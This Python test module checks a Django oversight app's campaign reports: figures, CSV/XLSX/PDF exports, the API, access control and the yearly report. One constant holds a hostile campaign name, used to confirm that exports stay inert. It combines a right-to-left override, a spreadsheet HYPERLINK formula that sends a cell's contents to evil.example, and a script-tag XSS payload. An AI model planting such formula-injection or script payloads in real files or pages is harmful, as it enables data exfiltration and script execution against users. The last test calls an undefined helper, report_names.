"""The campaign report: every figure on a hand-built campaign, asserted exactly in the figures, the page, the CSV
(parsed back), the XLSX (openpyxl), the PDF (its text), the API, and the yearly report's campaigns section; who gets
it; the Chinese files; a hostile campaign name inert everywhere.

The dataset (a city running campaigns over its two counties, tests/oversight/conftest.py):

Special supervision "S" over the closed cases: west W1, W2, W3 (西湖区分局 330106), east E1, E2 (滨江区分局 330108).
Reviewed: W1, W2, E1. Problems (by the reviewers, dates moved back where the story needs a past):
  W1 P1 non-handling   due in 5 days, rectified today            → on time
  W1 P2 downgraded     due 10 days ago, rectified 2 days ago      → late
  W2 P3 protracted     due yesterday, open                        → overdue
  W2 P4 protracted     due in 10 days, open                       → neither
  E1 P5 interference   due today, rectified today                 → on time (the last day counts)
  E1 P6 evidence       due 3 days ago, open                       → overdue
W1 made up (recalled and reopened) for P2.
Accountability: W1 王某/001/west county criticism (P1) and sanction (P2) — one officer, two decisions; W2 李某/002/west
county admonishment; E1 赵某/(no badge)/east county admonishment; E2 王某/001/west county admonishment — the same
officer as on W1, so the total counts three officers although the rows say 2 + 2.

Fugitive pursuit "F" over the cases in supervision with suspects at large: west WF1 (A, B), WF2 (C, G); east EF1
(D, E, F). A arrested, B located, C extradited (across the border), G surrendered; D arrested abroad (across the
border), E deceased, F at large.
"""

import csv
import io
import re
import zipfile
from dataclasses import dataclass
from datetime import datetime, timedelta
from urllib.parse import urlencode

import openpyxl
import pytest
from django.db import connection, transaction
from django.db.models import F
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from pypdf import PdfReader
from rest_framework.test import APIClient

from accounts.models import Role, User
from accounts.selectors import actor_for
from cases import services as case_services
from cases.choices import AccessAction, CaseStatus, SuspectStatus
from cases.models import AccessLog, Case
from cases.reports.services import render_export
from cases.reports.yearly import report_timezone, yearly_report
from oversight import report, selectors, services
from oversight.choices import CHECKLISTS, Answer, CampaignKind, Measure, ProblemType, PursuitStatus
from oversight.models import Campaign, CampaignCase, Problem, PursuitRecord
from oversight.report_files import render_file
from oversight.scope import Scope
from tests.conftest import reauthenticated
from tests.factories import PASSWORD, member
from tests.oversight.conftest import Camp, build_camp, case_at, new_campaign

CJK = re.compile(r"[\u4e00-\u9fff]")
HOSTILE = '\u202e=HYPERLINK("http://evil.example/?"&A1,"x")<script>alert(1)</script>'
WEST, EAST = "西湖区分局 (330106)", "滨江区分局 (330108)"
T = ProblemType
M = Measure
P = PursuitStatus


@dataclass
class Dataset:
    camp: Camp
    special: Campaign
    pursuit: Campaign
    draft: Campaign  # never started: in no yearly report
    last_year: Campaign  # ran and closed last year: not in this year's report
    cases: dict[str, Case]


def _days(n: int):
    return timezone.localdate() + timedelta(days=n)


def _pass_all(item: CampaignCase, by) -> None:
    answers = dict.fromkeys(CHECKLISTS[item.campaign.kind], (Answer.PASS, ""))
    services.record_review(item=item, by=by, answers=answers)


def build(camp: Camp) -> Dataset:
    w = camp.world
    boss = w.supervisor  # the city's supervisor runs both campaigns
    cases = {name: case_at(camp, CaseStatus.CLOSED) for name in ("W1", "W2", "W3")}
    cases |= {name: case_at(camp, CaseStatus.CLOSED, east=True) for name in ("E1", "E2")}
    cases |= {name: case_at(camp, CaseStatus.SUPERVISION) for name in ("WF1", "WF2")}
    cases["EF1"] = case_at(camp, CaseStatus.SUPERVISION, east=True)
    suspects = {}
    for case, names in (("WF1", "AB"), ("WF2", "CG"), ("EF1", "DEF")):
        for name in names:
            suspects[name] = case_services.add_suspect(
                case=cases[case], by=boss, name=f"逃犯{name}", status=SuspectStatus.AT_LARGE
            )

    pursuit = new_campaign(
        camp, kind=CampaignKind.FUGITIVE_PURSUIT, name="追逃专项", scope=Scope(statuses=(CaseStatus.SUPERVISION,))
    )
    pursuit = services.start_campaign(campaign=pursuit, by=boss)
    steps = {
        "A": (P.ARRESTED, False),
        "C": (P.EXTRADITED, True),
        "G": (P.SURRENDERED, False),
        "D": (P.ARRESTED, True),
        "E": (P.DECEASED, False),
    }
    for name, (status, abroad) in steps.items():
        record = PursuitRecord.objects.get(suspect=suspects[name])
        services.record_pursuit_step(
            record=record, by=boss, status=status, on=_days(0), unit=w.county, cross_border=abroad
        )
    record = PursuitRecord.objects.get(suspect=suspects["B"])
    services.record_pursuit_step(record=record, by=boss, status=P.LOCATED, on=_days(0), unit=w.county)

    special = new_campaign(camp, name="2026年袭警案件专项监督")
    services.assign_reviewer(campaign=special, by=boss, sub_unit=w.county, reviewer=w.county_supervisor)
    services.assign_reviewer(campaign=special, by=boss, sub_unit=camp.east, reviewer=camp.east_supervisor)
    special = services.start_campaign(campaign=special, by=boss)
    item = {
        name: CampaignCase.objects.get(campaign=special, case=cases[name]) for name in ("W1", "W2", "W3", "E1", "E2")
    }
    west, east = w.county_supervisor, camp.east_supervisor
    for name, reviewer in (("W1", west), ("W2", west), ("E1", east)):
        _pass_all(item[name], reviewer)

    def problem(name: str, reviewer, type_: str, unit, due: int, raised: int = 0) -> Problem:
        p = services.raise_problem(
            item=item[name],
            by=reviewer,
            type=type_,
            description=f"{type_} 问题",
            responsible_unit=unit,
            rectify_by=max(_days(due), _days(0)),
        )
        # The story's past: raised ``raised`` days ago, due ``due`` days from today (the service refuses a past date).
        Problem.objects.filter(pk=p.pk).update(rectify_by=_days(due), raised_at=F("raised_at") + timedelta(days=raised))
        p.refresh_from_db()
        return p

    p1 = problem("W1", west, T.NON_HANDLING, w.county, 5)
    p2 = problem("W1", west, T.DOWNGRADED, w.county, -10, raised=-20)
    problem("W2", west, T.PROTRACTED, w.county, -1, raised=-5)
    problem("W2", west, T.PROTRACTED, w.county, 10)
    p5 = problem("E1", east, T.INTERFERENCE, camp.east, 0)
    problem("E1", east, T.EVIDENCE, camp.east, -3, raised=-6)
    services.rectify_problem(problem=p1, by=boss, rectification="已补办", rectified_on=_days(0))
    services.rectify_problem(problem=p2, by=boss, rectification="已重新处理", rectified_on=_days(-2))
    services.rectify_problem(problem=p5, by=east, rectification="已排除干扰", rectified_on=_days(0))
    services.make_up_case(item=item["W1"], by=west, problem=p2)

    def accountable(name: str, officer: str, badge: str, unit, measure: str, problem: Problem | None = None) -> None:
        services.record_accountability(
            item=item[name],
            by=boss,
            officer_name=officer,
            officer_badge=badge,
            unit=unit,
            measure=measure,
            document_reference=f"杭督〔2026〕{measure}号",
            decided_on=_days(0),
            problem=problem,
        )

    accountable("W1", "王某", "001", w.county, M.CRITICISM_EDUCATION, p1)
    accountable("W1", "王某", "001", w.county, M.DISCIPLINARY_SANCTION, p2)
    accountable("W2", "李某", "002", w.county, M.ADMONISHMENT)
    accountable("E1", "赵某", "", camp.east, M.ADMONISHMENT)
    accountable("E2", "王某", "001", w.county, M.ADMONISHMENT)

    draft = new_campaign(camp, name="草稿", kind=CampaignKind.LOOK_BACK)
    last_year = services.start_campaign(campaign=new_campaign(camp, name="去年回头看"), by=boss)
    last_year = services.close_campaign(campaign=last_year, by=boss)
    last = timezone.localdate().year - 1
    tz = report_timezone()
    Campaign.objects.filter(pk=last_year.pk).update(
        started_at=datetime(last, 1, 10, 9, tzinfo=tz), closed_at=datetime(last, 2, 10, 9, tzinfo=tz)
    )
    return Dataset(camp, special, pursuit, draft, last_year, cases)


@pytest.fixture(scope="module")
def _module_dataset(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock():
        outer = transaction.atomic()
        outer.__enter__()
        try:
            yield build(build_camp())
        finally:
            transaction.set_rollback(True)
            outer.__exit__(None, None, None)


@pytest.fixture
def data(_module_dataset, db) -> Dataset:
    return _module_dataset


def types(**n: int) -> dict[str, int]:
    return {t: n.get(t, 0) for t in T.values}


def measures(**n: int) -> dict[str, int]:
    return {m: n.get(m, 0) for m in M.values}


def statuses(**n: int) -> dict[str, int]:
    return {s: n.get(s, 0) for s in P.values}


# The special supervision's figures, every one.
S_WEST = report.Figures(
    selected=3,
    reviewed=2,
    problems=4,
    problems_by_type=types(non_handling=1, downgraded=1, protracted=2),
    rectified=2,
    rectified_on_time=1,
    rectified_late=1,
    overdue=1,
    made_up=1,
    officers_accountable=2,
    accountability_records=3,
    accountability_by_measure=measures(criticism_education=1, admonishment=1, disciplinary_sanction=1),
)
S_EAST = report.Figures(
    selected=2,
    reviewed=1,
    problems=2,
    problems_by_type=types(interference=1, evidence=1),
    rectified=1,
    rectified_on_time=1,
    rectified_late=0,
    overdue=1,
    made_up=0,
    officers_accountable=2,
    accountability_records=2,
    accountability_by_measure=measures(admonishment=2),
)
S_TOTAL = report.Figures(
    selected=5,
    reviewed=3,
    problems=6,
    problems_by_type=types(non_handling=1, downgraded=1, protracted=2, interference=1, evidence=1),
    rectified=3,
    rectified_on_time=2,
    rectified_late=1,
    overdue=2,
    made_up=1,
    officers_accountable=3,  # 王某 in both sub-units is one officer
    accountability_records=5,
    accountability_by_measure=measures(criticism_education=1, admonishment=3, disciplinary_sanction=1),
)
F_WEST = report.Figures(
    selected=2,
    pursued=4,
    pursuit_by_status=statuses(located=1, arrested=1, surrendered=1, extradited=1),
    still_at_large=1,
    cross_border=1,
)
F_EAST = report.Figures(
    selected=1,
    pursued=3,
    pursuit_by_status=statuses(at_large=1, arrested=1, deceased=1),
    still_at_large=1,
    cross_border=1,
)
F_TOTAL = report.Figures(
    selected=3,
    pursued=7,
    pursuit_by_status=statuses(at_large=1, located=1, arrested=2, surrendered=1, extradited=1, deceased=1),
    still_at_large=2,
    cross_border=2,
)


def as_actor(user):
    return actor_for(user)


# --- the figures ------------------------------------------------------------------------------------------------------


def test_every_figure_of_the_special_supervision(data):
    r = report.campaign_report(as_actor(data.camp.world.supervisor), data.special)
    assert r.as_of == timezone.localdate()
    assert [(str(row.unit), row.figures) for row in r.rows] == [(WEST, S_WEST), (EAST, S_EAST)]
    assert r.total == S_TOTAL
    assert r.pursuit is False


def test_every_figure_of_the_fugitive_pursuit(data):
    r = report.campaign_report(as_actor(data.camp.world.supervisor), data.pursuit)
    assert [(str(row.unit), row.figures) for row in r.rows] == [(WEST, F_WEST), (EAST, F_EAST)]
    assert r.total == F_TOTAL
    assert r.pursuit is True


def test_a_reviewer_counts_only_the_sub_unit_they_review(data):
    r = report.campaign_report(as_actor(data.camp.east_supervisor), data.special)
    assert [(str(row.unit), row.figures) for row in r.rows] == [(EAST, S_EAST)]
    assert r.total == S_EAST


def test_the_campaign_page_progress_is_made_of_the_same_counts(data):
    rows = selectors.progress(as_actor(data.camp.world.supervisor), data.special)
    got = [
        (
            p.unit.code if p.unit else "total",
            p.selected,
            p.reviewed,
            p.problems,
            p.rectified,
            p.overdue,
            p.made_up,
            p.accountable,
        )
        for p in rows
    ]
    assert got == [
        ("330106", 3, 2, 4, 2, 1, 1, 2),
        ("330108", 2, 1, 2, 1, 1, 0, 2),
        ("total", 5, 3, 6, 3, 2, 1, 3),
    ]


def test_the_figures_cost_a_fixed_number_of_queries(data):
    actor = as_actor(data.camp.world.supervisor)
    with CaptureQueriesContext(connection) as special:
        report.campaign_report(actor, data.special)
    with CaptureQueriesContext(connection) as pursuit:
        report.campaign_report(actor, data.pursuit)
    # Selected, reviewed and made-up cases, problems, accountability by sub-unit, officers over the campaign, the
    # units; pursuits too.
    assert (len(special), len(pursuit)) == (7, 8)


# --- the files --------------------------------------------------------------------------------------------------------


def render(campaign: Campaign, fmt: str, user, language: str = "en") -> bytes:
    with translation.override(language):
        return render_file(report.campaign_report(as_actor(user), campaign), fmt)


def csv_grids(data_: bytes) -> tuple[list[list[str]], dict[str, dict[str, dict[str, str]]]]:
    """The header lines, and {grid title: {row label: {column heading: cell}}}."""
    assert data_.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data_.decode("utf-8-sig"))))
    head_end = rows.index([])
    grids: dict[str, dict[str, dict[str, str]]] = {}
    i = head_end
    while i < len(rows):
        if rows[i] == []:
            title, headings = rows[i + 1][0], rows[i + 2]
            grid = grids.setdefault(title, {})
            i += 3
            while i < len(rows) and rows[i] and len(rows[i]) == len(headings):
                grid[rows[i][0]] = dict(zip(headings[1:], rows[i][1:], strict=True))
                i += 1
        else:
            i += 1
    return rows[:head_end], grids


MAIN = (
    "Cases selected",
    "Cases reviewed",
    "Problems found",
    "Problems rectified",
    "Rectified on time",
    "Rectified late",
    "Overdue rectifications",
    "Cases made up",
    "Officers held accountable",
)


def test_the_csv_has_every_figure(data):
    head, grids = csv_grids(render(data.special, "csv", data.camp.world.supervisor))
    assert head[0] == ["RightsGuard campaign report"]
    assert head[1] == ["Campaign", "2026年袭警案件专项监督"]
    assert head[2] == ["Kind", "Special supervision"]
    assert head[3] == ["Owner unit", "杭州市公安局 (330100)"]
    today = timezone.localdate()
    assert head[4] == ["Period", f"1 Jan {today.year} – 31 Dec {today.year}"]
    assert head[6] == ["Figures as of", f"{today.day} {today:%b} {today.year}"]
    figures = grids["Figures by sub-unit"]
    assert {label: [row[h] for h in MAIN] for label, row in figures.items()} == {
        WEST: ["3", "2", "4", "2", "1", "1", "1", "1", "2"],
        EAST: ["2", "1", "2", "1", "1", "0", "1", "0", "2"],
        "Total": ["5", "3", "6", "3", "2", "1", "2", "1", "3"],
    }
    assert grids["Problems found by type"] == {
        WEST: {
            "Non-handling": "1",
            "Downgraded handling": "1",
            "Protracted delay": "2",
            "Obstruction or interference in handling": "0",
            "Evidence": "0",
            "Time limits": "0",
            "Support": "0",
            "Look-back": "0",
        },
        EAST: {
            "Non-handling": "0",
            "Downgraded handling": "0",
            "Protracted delay": "0",
            "Obstruction or interference in handling": "1",
            "Evidence": "1",
            "Time limits": "0",
            "Support": "0",
            "Look-back": "0",
        },
        "Total": {
            "Non-handling": "1",
            "Downgraded handling": "1",
            "Protracted delay": "2",
            "Obstruction or interference in handling": "1",
            "Evidence": "1",
            "Time limits": "0",
            "Support": "0",
            "Look-back": "0",
        },
    }
    assert grids["Accountability"] == {
        WEST: {
            "Officers held accountable": "2",
            "Accountability decisions": "3",
            "Criticism and education": "1",
            "Admonishment": "1",
            "Disciplinary sanction": "1",
        },
        EAST: {
            "Officers held accountable": "2",
            "Accountability decisions": "2",
            "Criticism and education": "0",
            "Admonishment": "2",
            "Disciplinary sanction": "0",
        },
        "Total": {
            "Officers held accountable": "3",
            "Accountability decisions": "5",
            "Criticism and education": "1",
            "Admonishment": "3",
            "Disciplinary sanction": "1",
        },
    }
    assert "Fugitive pursuit" not in grids


def test_the_pursuit_csv_has_where_each_pursuit_stands(data):
    _head, grids = csv_grids(render(data.pursuit, "csv", data.camp.world.supervisor))
    columns = (
        "Fugitives pursued",
        "At large",
        "Located",
        "Arrested",
        "Surrendered",
        "Extradited or repatriated",
        "Deceased",
        "Still at large",
        "Across the border",
    )
    assert {label: [row[c] for c in columns] for label, row in grids["Fugitive pursuit"].items()} == {
        WEST: ["4", "0", "1", "1", "1", "1", "0", "1", "1"],
        EAST: ["3", "1", "0", "1", "0", "0", "1", "1", "1"],
        "Total": ["7", "1", "1", "2", "1", "1", "1", "2", "2"],
    }


def test_the_xlsx_has_every_figure_as_numbers_and_native_charts(data):
    raw = render(data.special, "xlsx", data.camp.world.supervisor)
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    assert wb.sheetnames == ["Summary", "Figures by sub-unit", "Problems found by type", "Accountability", "Charts"]
    summary = {row[0]: row[1] for row in wb["Summary"].iter_rows(min_row=2, values_only=True) if row[0]}
    assert summary["Campaign"] == "2026年袭警案件专项监督"
    assert (summary["Cases selected"], summary["Problems found"], summary["Rectified on time"]) == (5, 6, 2)
    assert (summary["Cases made up"], summary["Officers held accountable"]) == (1, 3)
    sheet = wb["Figures by sub-unit"]
    assert [c.value for c in sheet[1]] == ["Sub-unit", *MAIN]
    assert sheet.freeze_panes == "B2"
    assert [list(r) for r in sheet.iter_rows(min_row=2, max_row=4, values_only=True)] == [
        [WEST, 3, 2, 4, 2, 1, 1, 1, 1, 2],
        [EAST, 2, 1, 2, 1, 1, 0, 1, 0, 2],
        ["Total", 5, 3, 6, 3, 2, 1, 2, 1, 3],
    ]
    types_sheet = [list(r) for r in wb["Problems found by type"].iter_rows(min_row=2, max_row=4, values_only=True)]
    assert types_sheet == [
        [WEST, 1, 1, 2, 0, 0, 0, 0, 0],
        [EAST, 0, 0, 0, 1, 1, 0, 0, 0],
        ["Total", 1, 1, 2, 1, 1, 0, 0, 0],
    ]
    account = [list(r) for r in wb["Accountability"].iter_rows(min_row=2, max_row=4, values_only=True)]
    assert account == [[WEST, 2, 3, 1, 1, 1], [EAST, 2, 2, 0, 2, 0], ["Total", 3, 5, 1, 3, 1]]
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        charts = sorted(n for n in z.namelist() if n.startswith("xl/charts/chart"))
        assert len(charts) == 2
        # Over the two sub-units, not the total.
        assert "'Figures by sub-unit'!$B$2:$B$3" in z.read(charts[0]).decode()


def pdf_text(raw: bytes) -> str:
    reader = PdfReader(io.BytesIO(raw))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def pdf_fonts(raw: bytes) -> set[str]:
    return {
        str(font.get_object()["/BaseFont"])
        for page in PdfReader(io.BytesIO(raw)).pages
        for font in page["/Resources"].get("/Font", {}).values()
    }


def test_the_pdf_has_every_figure(data):
    text = pdf_text(render(data.special, "pdf", data.camp.world.supervisor))
    assert "Campaign report" in text
    assert f"{WEST} 3 2 4 2 1 1 1 1 2" in text
    assert f"{EAST} 2 1 2 1 1 0 1 0 2" in text
    assert "Total 5 3 6 3 2 1 2 1 3" in text
    assert f"{WEST} 1 1 2 0 0 0 0 0" in text
    assert f"{EAST} 0 0 0 1 1 0 0 0" in text
    assert "Total 1 1 2 1 1 0 0 0" in text
    assert f"{WEST} 2 3 1 1 1" in text
    assert f"{EAST} 2 2 0 2 0" in text
    assert "Total 3 5 1 3 1" in text
    assert "Officers held accountable 3" in text  # the key figures
    assert "Page 1 of" in text


def test_the_pursuit_pdf_has_where_each_pursuit_stands(data):
    text = pdf_text(render(data.pursuit, "pdf", data.camp.world.supervisor))
    assert f"{WEST} 4 0 1 1 1 1 0 1 1" in text
    assert f"{EAST} 3 1 0 1 0 0 1 1 1" in text
    assert "Total 7 1 1 2 1 1 1 2 2" in text


def test_the_chinese_files_have_chinese_headings_and_the_cjk_font(data):
    boss = data.camp.world.supervisor
    with translation.override("zh-hans"):
        selected, total, on_time = (translation.gettext(m) for m in ("Cases selected", "Total", "Rectified on time"))
        sub_unit, protracted = translation.gettext("Sub-unit"), str(T.PROTRACTED.label)
        kind = str(CampaignKind.SPECIAL_SUPERVISION.label)
    assert (selected, total, on_time, sub_unit) == ("抽选案件数", "合计", "按期整改", "下级单位")
    assert CJK.search(protracted)
    assert CJK.search(kind)
    head, grids = csv_grids(render(data.special, "csv", boss, "zh-hans"))
    assert head[2][1] == kind
    figures, by_type = list(grids.values())[:2]
    assert (figures[total][selected], figures[total][on_time], by_type[total][protracted]) == ("5", "2", "2")
    wb = openpyxl.load_workbook(io.BytesIO(render(data.special, "xlsx", boss, "zh-hans")))
    headings = [c.value for c in wb.worksheets[1][1]]
    assert (headings[0], headings[1], headings[5]) == (sub_unit, selected, on_time)
    raw = render(data.special, "pdf", boss, "zh-hans")
    text = pdf_text(raw).replace(" ", "")
    assert f"{total}536321213" in text  # the total row of the figures, in Chinese
    assert protracted in text
    assert {name.split("+", 1)[1] for name in pdf_fonts(raw)} == {"WenQuanYi-Micro-Hei"}


# --- the page, the downloads and who gets them ------------------------------------------------------------------------


def test_the_page_shows_the_figures_and_links_the_files(client, data):
    client.force_login(data.camp.world.supervisor)
    detail = client.get(reverse("oversight:detail", args=[data.special.pk])).content.decode()
    assert f'href="{reverse("oversight:report", args=[data.special.pk])}"' in detail
    page = client.get(reverse("oversight:report", args=[data.special.pk]))
    assert page.status_code == 200
    assert page["Cache-Control"].startswith("max-age=0") or "no-store" in page["Cache-Control"]
    html = page.content.decode()
    for fmt in ("csv", "xlsx", "pdf"):
        assert reverse("oversight:report-file", args=[data.special.pk, fmt]) in html
    grids = {grid.key: rows for grid, rows in page.context["grids"]}
    assert [(row.label, [t for t, _n, _link in cells]) for row, cells in grids["figures"]] == [
        (WEST, ["3", "2", "4", "2", "1", "1", "1", "1", "2"]),
        (EAST, ["2", "1", "2", "1", "1", "0", "1", "0", "2"]),
        ("Total", ["5", "3", "6", "3", "2", "1", "2", "1", "3"]),
    ]
    charts = {c["key"]: c for c in page.context["chart_data"]["charts"]}
    assert charts["problem_types"]["labels"] == [
        "Non-handling",
        "Downgraded handling",
        "Protracted delay",
        "Obstruction or interference in handling",
        "Evidence",
    ]
    assert charts["problem_types"]["series"] == [{"name": "Problems found", "values": [1.0, 1.0, 2.0, 1.0, 1.0]}]
    assert charts["reviewed"]["series"][1] == {"name": "Cases reviewed", "values": [2.0, 1.0]}
    assert 'id="report-charts"' in html


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_a_download_is_the_file_in_the_access_log(client, data, fmt):
    client.force_login(data.camp.world.supervisor)
    reauthenticated(client)
    before = AccessLog.objects.count()
    answer = client.get(reverse("oversight:report-file", args=[data.special.pk, fmt]))
    assert answer.status_code == 200
    assert (
        answer["Content-Disposition"] == f'attachment; filename="rightsguard-campaign-{data.special.pk}-report.{fmt}"'
    )
    assert answer.content[:4] in (b"\xef\xbb\xbfR", b"PK\x03\x04", b"%PDF")
    log = AccessLog.objects.order_by("-pk").first()
    assert AccessLog.objects.count() == before + 1
    assert (log.user, log.action) == (data.camp.world.supervisor, AccessAction.EXPORT)
    assert log.object_ref == f"campaign-report campaign={data.special.pk} format={fmt} lang=en"


def test_outsiders_get_no_page_and_no_file(client, data):
    w = data.camp.world
    urls = [
        reverse("oversight:report", args=[data.special.pk]),
        *(reverse("oversight:report-file", args=[data.special.pk, fmt]) for fmt in ("csv", "xlsx", "pdf")),
    ]
    exports = AccessLog.objects.filter(action=AccessAction.EXPORT).count()
    for user, code in ((w.sibling_supervisor, 404), (w.officer, 403), (w.other_officer, 403)):
        client.force_login(user)
        reauthenticated(client)
        for url in urls:
            answer = client.get(url)
            assert answer.status_code == code, (user.username, url)
            assert "Content-Disposition" not in answer
            assert data.special.name not in answer.content.decode()
    # A supervisor of a sibling county, not assigned: the campaign is not theirs.
    client.force_login(member(data.camp.east, Role.SUPERVISOR, username="east_other"))
    reauthenticated(client)
    assert client.get(urls[1]).status_code == 404
    assert client.get(reverse("oversight:report-file", args=[data.special.pk, "html"])).status_code == 404
    assert AccessLog.objects.filter(action=AccessAction.EXPORT).count() == exports


def test_a_reviewer_downloads_only_their_sub_units_figures(client, data):
    client.force_login(data.camp.east_supervisor)
    reauthenticated(client)
    _head, grids = csv_grids(client.get(reverse("oversight:report-file", args=[data.special.pk, "csv"])).content)
    assert list(grids["Figures by sub-unit"]) == [EAST, "Total"]
    assert grids["Figures by sub-unit"]["Total"]["Officers held accountable"] == "2"


def test_a_download_needs_the_password_confirmed_recently(client, data):
    client.force_login(data.camp.world.supervisor)
    url = reverse("oversight:report-file", args=[data.special.pk, "xlsx"])
    page = reverse("oversight:report", args=[data.special.pk])
    exports = AccessLog.objects.filter(action=AccessAction.EXPORT).count()
    answer = client.get(url)
    # Back to the report page after the password, not to the file: see the next test.
    assert (answer.status_code, answer["Location"]) == (302, f"/accounts/reauth/?{urlencode({'next': page})}")
    assert "Content-Disposition" not in answer
    assert AccessLog.objects.filter(action=AccessAction.EXPORT).count() == exports
    # The page itself does not, and says beforehand that the password will be asked.
    shown = client.get(page)
    assert shown.status_code == 200
    assert REAUTH_WARNING in shown.content.decode()
    reauthenticated(client)
    assert REAUTH_WARNING not in client.get(page).content.decode()
    assert client.get(url)["Content-Disposition"].startswith("attachment;")


REAUTH_WARNING = "You will be asked for your password first: exports need it confirmed within the last 5 minutes."


def test_after_the_password_the_report_page_fetches_the_file_asked_for_once(client, data):
    """A download link followed before the password was confirmed: once it is, the reader is back on the report page,
    which marks the file's link to be followed (reports.js) and says so; they are not left at the password form while
    the file downloads behind it. Only once, and only on that campaign's report."""
    # The shared data set's accounts do not have the password tests type: this supervisor is given it (on a copy of the
    # shared account, whose session hash the next tests log in with).
    boss = User.objects.get(pk=data.camp.world.supervisor.pk)
    boss.set_password(PASSWORD)
    boss.save(update_fields=["password"])
    client.force_login(boss)
    page = reverse("oversight:report", args=[data.special.pk])
    pdf = reverse("oversight:report-file", args=[data.special.pk, "pdf"])
    exports = AccessLog.objects.filter(action=AccessAction.EXPORT).count()
    assert client.get(pdf)["Location"] == f"/accounts/reauth/?{urlencode({'next': page})}"
    # Not yet confirmed: the page fetches nothing; another campaign's report never does.
    assert client.get(page).context["resume_format"] == ""

    confirmed = client.post(reverse("reauth"), {"password": PASSWORD, "next": page})
    assert (confirmed.status_code, confirmed["Location"]) == (302, page)
    assert client.get(reverse("oversight:report", args=[data.pursuit.pk])).context["resume_format"] == ""
    answer = client.get(page)
    html = answer.content.decode()
    assert answer.context["resume_format"] == "pdf"
    assert f'<a class="btn btn-outline-primary" href="{pdf}" data-resume>Download PDF</a>' in html
    assert html.count("data-resume") == 1
    assert "Password confirmed. The file downloads now; if nothing happens, press “Download PDF” again." in html
    assert REAUTH_WARNING not in html
    # The page only points at the file: the download itself is the link's, in the access log when it is fetched.
    assert AccessLog.objects.filter(action=AccessAction.EXPORT).count() == exports
    again = client.get(page)
    assert again.context["resume_format"] == ""
    assert "data-resume" not in again.content.decode()
    assert client.get(pdf)["Content-Disposition"].startswith("attachment;")
    assert AccessLog.objects.filter(action=AccessAction.EXPORT).count() == exports + 1


# --- the API ----------------------------------------------------------------------------------------------------------


def _figures_json(f: report.Figures, pursuit: bool) -> dict:
    return {
        "selected": f.selected,
        "reviewed": f.reviewed,
        "problems": f.problems,
        "problems_by_type": [{"type": t, "count": f.problems_by_type[t]} for t in T.values],
        "rectified": f.rectified,
        "rectified_on_time": f.rectified_on_time,
        "rectified_late": f.rectified_late,
        "overdue": f.overdue,
        "made_up": f.made_up,
        "officers_accountable": f.officers_accountable,
        "accountability_records": f.accountability_records,
        "accountability_by_measure": [{"measure": m, "count": f.accountability_by_measure[m]} for m in M.values],
        "pursuit": {
            "pursued": f.pursued,
            "by_status": [{"status": s, "count": f.pursuit_by_status[s]} for s in P.values],
            "still_at_large": f.still_at_large,
            "cross_border": f.cross_border,
        }
        if pursuit
        else None,
    }


def test_the_api_answers_every_figure(data):
    api = APIClient()
    api.force_authenticate(data.camp.world.supervisor)
    body = api.get(f"/api/v1/campaigns/{data.special.pk}/report/").json()
    assert body["campaign"]["id"] == data.special.pk
    assert body["as_of"] == timezone.localdate().isoformat()
    assert [r["unit"]["code"] for r in body["rows"]] == ["330106", "330108"]
    assert [r["figures"] for r in body["rows"]] == [_figures_json(S_WEST, False), _figures_json(S_EAST, False)]
    assert body["total"] == _figures_json(S_TOTAL, False)
    # Spelt out once, not only through the helper.
    assert body["total"]["officers_accountable"] == 3
    assert body["total"]["problems_by_type"][2] == {"type": "protracted", "count": 2}
    pursuit = api.get(f"/api/v1/campaigns/{data.pursuit.pk}/report/").json()
    assert [r["figures"] for r in pursuit["rows"]] == [_figures_json(F_WEST, True), _figures_json(F_EAST, True)]
    assert pursuit["total"] == _figures_json(F_TOTAL, True)
    assert pursuit["total"]["pursuit"]["by_status"][2] == {"status": "arrested", "count": 2}


def test_the_api_refuses_outsiders(data):
    w = data.camp.world
    for user, code in ((w.sibling_supervisor, 404), (w.officer, 403)):
        api = APIClient()
        api.force_authenticate(user)
        answer = api.get(f"/api/v1/campaigns/{data.special.pk}/report/")
        assert answer.status_code == code
        assert "rows" not in answer.json()
    assert APIClient().get(f"/api/v1/campaigns/{data.special.pk}/report/").status_code == 401


# --- hostile text -----------------------------------------------------------------------------------------------------


def test_a_hostile_campaign_name_stays_text_in_every_format(client, data):
    Campaign.objects.filter(pk=data.special.pk).update(name=HOSTILE)
    boss = data.camp.world.supervisor
    campaign = Campaign.objects.get(pk=data.special.pk)
    head, _grids = csv_grids(render(campaign, "csv", boss))
    assert head[1] == ["Campaign", "'" + HOSTILE]  # a leading quote: shown as text, never run as a formula
    wb = openpyxl.load_workbook(io.BytesIO(render(campaign, "xlsx", boss)))
    cell = next(row[1] for row in wb["Summary"].iter_rows(min_row=2) if row[0].value == "Campaign")
    assert (cell.value, cell.data_type) == (HOSTILE, "s")
    text = pdf_text(render(campaign, "pdf", boss))
    # Printed as typed, in order, without the right-to-left override, which reordered the rest of the line.
    assert f"Campaign: {HOSTILE[1:]} Kind: Special supervision" in text
    assert "script> · 杭州市公安局 (330100)" in text  # the footer (the name wraps), the unit's code read as written
    client.force_login(boss)
    reauthenticated(client)
    html = client.get(reverse("oversight:report", args=[campaign.pk])).content.decode()
    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    answer = client.get(reverse("oversight:report-file", args=[campaign.pk, "csv"]))
    assert "HYPERLINK" not in answer["Content-Disposition"]


# --- the yearly report's campaigns section ----------------------------------------------------------------------------


CAMPAIGN_COLUMNS = (
    "Kind",
    "State",
    "Owner unit",
    "Cases selected",
    "Cases reviewed",
    "Problems found",
    "Rectified on time",
    "Overdue rectifications",
    "Cases made up",
    "Officers held accountable",
    "Fugitives pursued",
    "Arrested",
    "Still at large",
)


def test_the_yearly_report_lists_the_campaigns_that_ran_in_the_year(data):
    year = timezone.localdate().year
    r = yearly_report(unit=data.camp.world.province, year=year)
    (section,) = r.sections
    assert [(line.name, line.figures) for line in section.lines] == [
        ("追逃专项", F_TOTAL),
        ("2026年袭警案件专项监督", S_TOTAL),
    ]
    # The draft never ran; last year's look-back closed before the year began.
    assert report_names(data.camp.world.province, year - 1) == ["去年回头看"]
    # A county's report: the city's campaigns are the city's, not the county's.
    assert report_names(data.camp.world.county, year) == []
    assert report_names(data.camp.world.sibling_province, year) == []


